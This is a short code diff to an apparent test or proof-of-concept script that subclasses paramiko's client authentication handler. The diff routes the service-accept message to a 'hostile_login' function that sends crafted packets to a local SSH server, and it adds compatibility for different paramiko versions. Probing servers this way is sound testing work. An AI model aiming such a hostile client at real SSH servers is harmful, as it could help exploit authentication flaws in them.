@@ -68,7 +68,10 @@ class Login(AuthHandler):
             os._exit(1)
         self.transport._send_message(paramiko.Message(packet + answer[1:]))
 
-    _client_handler_table = {**AuthHandler._client_handler_table, MSG_SERVICE_ACCEPT: hostile_login}
+    _parse_service_accept = hostile_login
+    # paramiko 2 has a table of functions; later versions make one of what the object has.
+    if isinstance(AuthHandler._client_handler_table, dict):
+        _client_handler_table = {**AuthHandler._client_handler_table, MSG_SERVICE_ACCEPT: hostile_login}
 
 
 transport = paramiko.Transport(("127.0.0.1", arguments.port))
